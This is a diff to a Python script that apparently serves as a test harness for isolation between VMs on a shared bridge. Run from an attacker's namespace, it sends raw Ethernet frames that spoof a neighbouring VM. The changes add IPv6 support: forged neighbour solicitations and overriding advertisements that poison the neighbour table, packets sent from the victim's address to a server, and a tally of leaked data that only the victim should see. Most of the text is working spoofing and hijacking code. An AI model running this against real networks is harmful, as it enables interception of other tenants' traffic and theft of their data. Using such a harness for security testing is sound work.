@@ -1,5 +1,6 @@
 """
-A VM that pretends to be its neighbour: raw frames, forged ARP, and every timing.
+A VM that pretends to be its neighbour: raw frames, forged ARP and neighbour discovery,
+and every timing.
 
 Runs inside the attacker's namespace and speaks JSON on stdin and stdout; standard
 library only.  It wants what another VM on its bridge would get, so it uses that VM's
@@ -111,7 +112,12 @@ class Wire:
     The attacker's end of its cable.
 
     @ivar order: Who is who, as it came on stdin.
+    @ivar kind: The EtherType of what instances say.
+    @ivar head: The length of an IP header.
     """
+
+    kind = b"\x08\x00"
+    head = 20
 
     order: dict[str, Any]
     cable: socket.socket = field(init=False)
@@ -127,9 +133,14 @@ class Wire:
             octets(self.order[name]) for name in ("own_mac", "victim_mac", "router_mac")
         )
         self.victim, self.gateway, self.server = (
-            socket.inet_aton(self.order[name])
-            for name in ("victim", "gateway", "server")
+            self.packed(self.order[name]) for name in ("victim", "gateway", "server")
         )
+
+    def packed(self, address: str) -> bytes:
+        """
+        Write an address as it stands on the wire.
+        """
+        return socket.inet_aton(address)
 
     def claim(self, mac: bytes, loudly: bool) -> None:
         """
@@ -156,13 +167,24 @@ class Wire:
         offset = (20 + len(seat.options)) << 2
         tcp = struct.pack("!IIBBHHH", seat.seq, seat.ack, offset, flags, 65535, 0, 0)
         tcp = ports + tcp + seat.options
-        pseudo = self.victim + self.server + struct.pack("!HH", 6, len(tcp + data))
-        total = struct.pack("!H", checksum(pseudo + tcp + data))
-        tcp = tcp[:16] + total + tcp[18:] + data
-        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0)
+        total = struct.pack("!H", self.total(6, tcp + data))
+        self.deliver(mac, 6, tcp[:16] + total + tcp[18:] + data)
+
+    def total(self, protocol: int, payload: bytes) -> int:
+        """
+        Compute the checksum of what goes to the server from the victim's address.
+        """
+        pseudo = struct.pack("!HH", protocol, len(payload))
+        return checksum(self.victim + self.server + pseudo + payload)
+
+    def deliver(self, mac: bytes, protocol: int, payload: bytes) -> None:
+        """
+        Send the server a packet from the victim's address.
+        """
+        ip = struct.pack("!BBHHHBB", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol)
         addresses = self.victim + self.server
-        ip = ip[:10] + struct.pack("!H", checksum(ip + addresses)) + addresses
-        self.cable.send(self.gateway_mac + mac + b"\x08\x00" + ip + tcp)
+        ip += struct.pack("!H", checksum(ip + b"\0\0" + addresses)) + addresses
+        self.cable.send(self.gateway_mac + mac + self.kind + ip + payload)
 
     def listen(self, seconds: float) -> Iterator[Segment]:
         """
@@ -181,16 +203,75 @@ class Wire:
         """
         Read a frame, if it is one from the server to the victim's address.
         """
-        if frame[12:14] != b"\x08\x00" or frame[26:34] != self.server + self.victim:
+        start = 14 + self.head
+        ways = self.server + self.victim
+        if frame[12:14] != self.kind or frame[start - len(ways) : start] != ways:
             return None
-        length = struct.unpack("!H", frame[16:18])[0]
-        tcp = frame[34 : 14 + length]
+        tcp = frame[start : 14 + self.length(frame[14:])]
+        if len(tcp) < 20:
+            return None
         source, port, seq, _, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
         if source != self.order["port"]:
             return None
         start = (offset >> 4) * 4
         stamp = read_stamp(tcp[20:start])
         return Segment(port, seq, flags, tcp[start:], stamp)
+
+    def length(self, ip: bytes) -> int:
+        """
+        Tell the length of an IP packet; frames may be longer.
+        """
+        total: int = struct.unpack_from("!H", ip, 2)[0]
+        return total
+
+
+class Wire6(Wire):
+    """
+    The same where the victim's address is an IPv6 one.
+    """
+
+    kind = b"\x86\xdd"
+    head = 40
+
+    def packed(self, address: str) -> bytes:
+        """
+        Write an address as it stands on the wire.
+        """
+        return socket.inet_pton(socket.AF_INET6, address)
+
+    def claim(self, mac: bytes, loudly: bool) -> None:
+        """
+        Tell the hypervisor that the victim's address is at a MAC.
+
+        @param loudly: By a solicitation for the server, with the MAC as the source's
+            link-layer address, which makes an entry where there is none; else by an
+            advertisement that nobody asked for and that overrides (RFC 4861, 4.3 and
+            4.4; net/ipv6/ndisc.c, C{ndisc_recv_ns} and C{ndisc_recv_na}).
+        """
+        if loudly:
+            kind, flags, target, option = 135, 0, self.server, 1
+        else:
+            kind, flags, target, option = 136, 0x20000000, self.victim, 2
+        body = struct.pack("!BBHI", kind, 0, 0, flags) + target
+        body += struct.pack("!BB", option, 1) + mac
+        total = struct.pack("!H", self.total(58, body))
+        self.deliver(self.own, 58, body[:2] + total + body[4:])
+
+    def deliver(self, mac: bytes, protocol: int, payload: bytes) -> None:
+        """
+        Send the server a packet from the victim's address.  What discovers neighbours
+        must have a hop limit of 255.
+        """
+        ip = struct.pack("!IHBB", 6 << 28, len(payload), protocol, 255)
+        addresses = self.victim + self.server
+        self.cable.send(self.gateway_mac + mac + self.kind + ip + addresses + payload)
+
+    def length(self, ip: bytes) -> int:
+        """
+        Tell the length of an IP packet; frames may be longer.
+        """
+        payload: int = struct.unpack_from("!H", ip, 4)[0]
+        return self.head + payload
 
 
 @dataclass
@@ -341,6 +422,8 @@ class Attack:
     def hurry(self, times: int) -> None:
         """
         Try again and again, each time from another port.
+
+        C{calm} in the order is how many seconds to look like the victim in the end.
         """
         first = 20000 + self.dice.randrange(1000)
         for port, plan in enumerate(plans(self.dice, times), first):
@@ -348,7 +431,7 @@ class Attack:
         # What is held is perhaps let go once the entry has been the victim's for a
         # while.
         self.wire.claim(self.wire.victim_mac, loudly=True)
-        self.listen(3.0)
+        self.listen(self.wire.order.get("calm", 3.0))
         self.wire.claim(self.wire.own, loudly=True)
         self.listen(0.7)
 
@@ -408,16 +491,26 @@ class Attack:
         Say what was seen.
 
         @return: C{counts}; C{statuses}, how often each response status came; C{leaks},
-            how many connections brought bytes that only the victim may see.
+            how many connections brought bytes that only the victim may see; C{own}, how
+            many brought what is the attacker's own.
         """
-        learns = [base64.b64decode(text) for text in self.wire.order["learns"]]
+        learns, knows = (
+            [base64.b64decode(text) for text in self.wire.order.get(name, ())]
+            for name in ("learns", "knows")
+        )
         statuses: Counter[str] = Counter()
-        leaks = 0
+        leaks = own = 0
         for data in self.heard.values():
             if data:
                 statuses[data[9:12].decode("latin-1")] += 1
             leaks += any(secret in data for secret in learns)
-        return {"counts": self.counts, "statuses": statuses, "leaks": leaks}
+            own += any(secret in data for secret in knows)
+        return {
+            "counts": self.counts,
+            "statuses": statuses,
+            "leaks": leaks,
+            "own": own,
+        }
 
 
 def main() -> None:
@@ -425,7 +518,7 @@ def main() -> None:
     Attack as stdin says.
     """
     order = json.load(sys.stdin)
-    wire = Wire(order)
+    wire = (Wire6 if ":" in order["victim"] else Wire)(order)
     if order["act"] == "claim":
         wire.claim(wire.own, loudly=True)
         return
